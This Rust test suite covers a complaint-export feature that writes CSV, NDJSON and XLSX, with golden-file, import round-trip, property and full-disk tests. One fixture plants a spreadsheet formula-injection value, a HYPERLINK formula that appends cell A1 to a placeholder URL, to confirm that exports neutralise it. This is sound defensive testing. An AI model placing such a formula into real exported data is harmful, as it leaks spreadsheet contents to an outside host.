//! Exports: what the files are, to the letter, and that the importer has the same complaints of them.

use std::io::{self, Write};
use std::path::Path;
use std::sync::{Arc, Mutex};

use calamine::{Data, DataType, Reader, Xlsx, open_workbook};
use proptest::prelude::*;
use serde_json::{Map, Value, json};
use sha2::{Digest, Sha256};
use tousu::complaint::Complaint;
use tousu::export::columns::{COLUMNS, Kind};
use tousu::export::{Error, Format, Options, Row, Summary, Writer};
use tousu::import::{Content, JsonRows, Rows, csv_rows, xlsx_rows};
use tousu_wire::{Lang, NO_DATE, complaint_list};

/// 2024-05-01 11:59:59 in Beijing.
const NOW: i64 = 1_714_535_999;

/// The page's two example rows, and one of which every text would be something else to a spreadsheet.
fn complaints() -> Vec<Complaint> {
    let page = include_str!("../golden/page_example_rows.json");
    let mut rows: Vec<Value> = serde_json::from_str(page).unwrap();
    let mut hostile = rows[1].clone();
    let fields = json!({
        "channel_type": 9,
        "complainant_phone": "+86*******1474",
        "complaint_from": 210,
        "complaint_id": "20240417180801783546",
        "complaint_reason": "=HYPERLINK(\"http://x.example/?\"&A1,\"点\"),\r\n\"引号\"; _x000D_ 完",
        "complaint_resource_id": "1-2",
        "complaint_resource_type": -1,
        "current_step": 5,
        "state": 2,
        "closed_at": "2024-04-14 00:00:00",
        "is_overtime": 1,
        "time_limit": 1_000_000_000_000i64,
    });
    hostile.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
    rows.push(hostile);
    rows.into_iter().map(complaint).collect()
}

fn complaint(row: Value) -> Complaint {
    Complaint::from_row(serde_json::from_value(row).unwrap())
}

/// Exports them all into a file.
fn export(file: &Path, format: Format, lang: Lang, complaints: &[Complaint]) -> Summary {
    let options = Options { lang, created_at: NOW, temp: file.parent().unwrap().to_owned() };
    let out = std::fs::File::create(file).unwrap();
    let mut writer = Writer::new(format, &options, Box::new(out)).unwrap();
    let tags = ["=急".to_owned(), "退款".to_owned()];
    for (at, complaint) in complaints.iter().enumerate() {
        let (handler, tags) = if at == 1 { ("", &tags[2..]) } else { ("@王芳", &tags[..]) };
        writer.push(&Row { listed: complaint.shown().row(NOW), handler, tags }).unwrap();
    }
    writer.finish().unwrap()
}

/// A change to these files is a change for whoever reads exports. To accept it: run with `TOUSU_ACCEPT=1`.
#[test]
fn the_files_to_the_letter() {
    let folder = tempfile::tempdir().unwrap();
    for format in [Format::Csv, Format::Ndjson] {
        let file = folder.path().join("rows");
        let summary = export(&file, format, Lang::Zh, &complaints());
        let bytes = std::fs::read(&file).unwrap();
        let hash: [u8; 32] = Sha256::digest(&bytes).into();
        let sha256 = hash.iter().map(|byte| format!("{byte:02x}")).collect();
        assert_eq!(summary, Summary { rows: 3, cut: 0, bytes: bytes.len() as u64, sha256 });
        let golden = format!("{}/tests/golden/export.{}", env!("CARGO_MANIFEST_DIR"), format.name());
        if std::env::var_os("TOUSU_ACCEPT").is_some() {
            std::fs::write(&golden, &bytes).unwrap();
        }
        assert!(std::fs::read(&golden).unwrap_or_default() == bytes, "{golden} has changed");
    }
}

/// The lines of NDJSON are the list's rows, and what is ours behind them.
#[test]
fn lines_are_the_lists_rows() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("rows.ndjson");
    export(&file, Format::Ndjson, Lang::En, &complaints());
    let text = std::fs::read_to_string(&file).unwrap();
    assert_eq!(text.lines().count(), 3);
    for (line, complaint) in text.lines().zip(complaints()) {
        let row = serde_json::to_string(&complaint.to_row(NOW)).unwrap();
        let same = line.strip_prefix(row.trim_end_matches('}')).unwrap();
        assert!(same.starts_with(",\"handler\":\""), "{same}");
        let line: Value = serde_json::from_str(line).unwrap();
        assert!(line["tags"].is_array());
    }
}

#[test]
fn cells_of_a_workbook_have_their_types() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("rows.xlsx");
    let complaints = complaints();
    let summary = export(&file, Format::Xlsx, Lang::Zh, &complaints);
    assert_eq!((summary.rows, summary.cut), (3, 0));
    assert_eq!(summary.bytes, std::fs::metadata(&file).unwrap().len());
    let mut workbook: Xlsx<_> = open_workbook(&file).unwrap();
    assert_eq!(workbook.sheet_names(), ["投诉"]);
    let range = workbook.worksheet_range("投诉").unwrap();
    assert_eq!(range.height(), 4);
    let cell = |row: u32, key: &str| {
        let column = COLUMNS.iter().position(|column| column.key == key).unwrap();
        range.get_value((row, column as u32)).cloned().unwrap_or_default()
    };
    let text = |text: &str| Data::String(text.into());
    for (at, column) in COLUMNS.iter().enumerate() {
        assert_eq!(range.get_value((0, at as u32)), Some(&text(column.heading(Lang::Zh))));
    }
    for (row, complaint) in (1u32..).zip(&complaints) {
        let shown = complaint.to_row(NOW);
        assert_eq!(cell(row, "complaint_id"), text(&shown.complaint_id));
        assert_eq!(cell(row, "complainant_phone"), text(&shown.complainant_phone));
        assert_eq!(cell(row, "complaint_reason"), text(&shown.complaint_reason.replace("\r\n", "\n")));
        assert_eq!(cell(row, "complaint_resource_id"), text(&shown.complaint_resource_id));
        for column in COLUMNS.iter().filter(|column| column.kind == Kind::Moment && column.key != "closed_at")
        {
            let moment = cell(row, column.key);
            assert!(moment.is_datetime(), "{} {moment:?}", column.key);
        }
        let complained = cell(row, "complaint_time").as_datetime().unwrap();
        assert_eq!(complained.and_utc().timestamp() - 8 * 3600, shown.complaint_time.epoch());
        assert_eq!(cell(row, "time_limit"), Data::Float(shown.time_limit as f64));
    }
    assert_eq!(cell(1, "channel_type"), text("店铺"));
    assert_eq!(cell(1, "is_overtime"), text("是"));
    assert_eq!(cell(2, "closed_at"), Data::Empty);
    assert_eq!(cell(2, "handler"), Data::Empty);
    assert!(cell(1, "closed_at").is_datetime());
    // Codes without a label of their own are numbers.
    assert_eq!(cell(3, "channel_type"), Data::Float(9.0));
    assert_eq!(cell(3, "complaint_from"), Data::Float(210.0));
    assert_eq!(cell(3, "handler"), text("@王芳"));
    assert_eq!(cell(3, "tags"), text("=急、退款"));
    assert_eq!(workbook.worksheet_formula("投诉").unwrap().used_cells().count(), 0);
}

/// What the importer has of a file, row by row: texts by field, or the list's rows.
fn imported(file: &Path, format: Format) -> Vec<Map<String, Value>> {
    let open = || std::fs::File::open(file).unwrap();
    let rows: Rows = match format {
        Format::Csv => csv_rows(open()).unwrap(),
        Format::Xlsx => xlsx_rows(file).unwrap(),
        Format::Ndjson => Box::new(JsonRows::new(open())),
    };
    let fields = |content| match content {
        Content::Fields(fields) => fields,
        Content::Json(text) => serde_json::from_slice(&text).unwrap(),
        Content::Broken(why, shown) => panic!("{why}: {shown}"),
    };
    rows.map(|row| fields(row.unwrap().content)).collect()
}

/// A row's field as a table has it: numbers by their digits, nothing where there is no date.
fn as_text(value: &Value) -> String {
    match value {
        Value::String(text) if text == NO_DATE => String::new(),
        Value::String(text) => text.trim().to_owned(),
        other => other.to_string(),
    }
}

/// A text as a cell of that form holds it: XLSX has one line end and few control characters.
fn in_a_cell(text: &str, format: Format) -> String {
    match format {
        Format::Xlsx => {
            let text = text.replace("\r\n", "\n").replace('\r', "\n");
            text.replace(|c: char| c < ' ' && !matches!(c, '\n' | '\t'), "")
        }
        _ => text.to_owned(),
    }
}

/// The rows that the importer has are those that were exported, in each form and either language.
#[test]
fn an_export_can_be_imported() {
    let folder = tempfile::tempdir().unwrap();
    for (format, lang) in Format::ALL.into_iter().flat_map(|form| [(form, Lang::Zh), (form, Lang::En)]) {
        let file = folder.path().join("rows");
        export(&file, format, lang, &complaints());
        let rows = imported(&file, format);
        assert_eq!(rows.len(), 3);
        for (fields, complaint) in rows.iter().zip(complaints()) {
            let row = complaint.to_row(NOW);
            if format == Format::Ndjson {
                let fields = Value::Object(fields.clone());
                assert_eq!(serde_json::from_value::<complaint_list::Row>(fields).unwrap(), row);
                continue;
            }
            let Value::Object(row) = serde_json::to_value(&row).unwrap() else { unreachable!() };
            for (key, value) in row {
                let found = fields.get(&key).and_then(Value::as_str).unwrap_or_default();
                let expected = in_a_cell(&as_text(&value), format);
                assert_eq!(found.trim(), expected.trim(), "{format:?} {lang:?} {key}");
            }
        }
    }
}

/// Any text, the blanks around it aside: the importer takes those off wherever they come from, and apostrophes
/// in front of ids.
fn any_text() -> impl Strategy<Value = String> {
    "[\\t\\r\\n '\"=+\\-@,;＝＋－＠0-9.eE_x\u{feff}]{0,6}(\\PC|[\\x01-\\x7f]|_x0041_|\r\n|😀){0,8}"
}

fn any_complaint() -> impl Strategy<Value = Complaint> {
    (any_text(), any_text(), any_text(), any_text()).prop_map(|(id, reason, resource, phone)| {
        let mut complaint = complaints().remove(0);
        complaint.complaint_id = format!("{id}1");
        complaint.complaint_reason = reason;
        complaint.complaint_resource_id = resource;
        complaint.complainant_phone.0 = phone;
        complaint
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_text_survives_a_table(complaints in proptest::collection::vec(any_complaint(), 1..8)) {
        let folder = tempfile::tempdir().unwrap();
        for format in [Format::Csv, Format::Xlsx] {
            let file = folder.path().join("rows");
            export(&file, format, Lang::Zh, &complaints);
            let rows = imported(&file, format);
            prop_assert_eq!(rows.len(), complaints.len());
            for (fields, complaint) in rows.iter().zip(&complaints) {
                let row = complaint.to_row(NOW);
                let found = |key: &str| fields[key].as_str().unwrap().trim().to_owned();
                let text = |text: &str| in_a_cell(text, format).trim().to_owned();
                let id = |id: &str| text(id).trim_start_matches('\'').trim().to_owned();
                prop_assert_eq!(found("complaint_reason"), text(&row.complaint_reason));
                prop_assert_eq!(found("complaint_id"), id(&row.complaint_id));
                prop_assert_eq!(found("complaint_resource_id"), id(&row.complaint_resource_id));
                prop_assert_eq!(found("complainant_phone"), id(&row.complainant_phone));
            }
        }
    }
}

/// A disk with little room.
#[derive(Clone)]
struct Little(Arc<Mutex<usize>>);

impl Write for Little {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        let mut room = self.0.lock().unwrap();
        match room.checked_sub(bytes.len()) {
            Some(left) => *room = left,
            None => return Err(io::ErrorKind::StorageFull.into()),
        }
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[test]
fn a_full_disk_is_an_error_and_stays_one() {
    let complaints = complaints();
    for format in Format::ALL {
        let options = Options { lang: Lang::Zh, created_at: NOW, temp: std::env::temp_dir() };
        let out = Little(Arc::new(Mutex::new(1000)));
        let mut writer = Writer::new(format, &options, Box::new(out)).unwrap();
        let row = Row { listed: complaints[0].shown().row(NOW), handler: "", tags: &[] };
        let failed = (0..2000).find_map(|_| writer.push(&row).err());
        if format == Format::Xlsx {
            // It reaches the file at the end only.
            assert!(failed.is_none());
            assert!(writer.finish().is_err());
            continue;
        }
        assert!(matches!(failed, Some(Error::Io(error)) if error.kind() == io::ErrorKind::StorageFull));
        assert!(matches!(writer.push(&row), Err(Error::Failed)));
        assert!(matches!(writer.finish(), Err(Error::Failed)));
    }
    let options = Options { lang: Lang::Zh, created_at: NOW, temp: "/nowhere/at/all".into() };
    let refused = Writer::new(Format::Xlsx, &options, Box::new(io::sink()));
    assert!(matches!(refused, Err(Error::Temp(folder, _)) if folder == Path::new("/nowhere/at/all")));
}
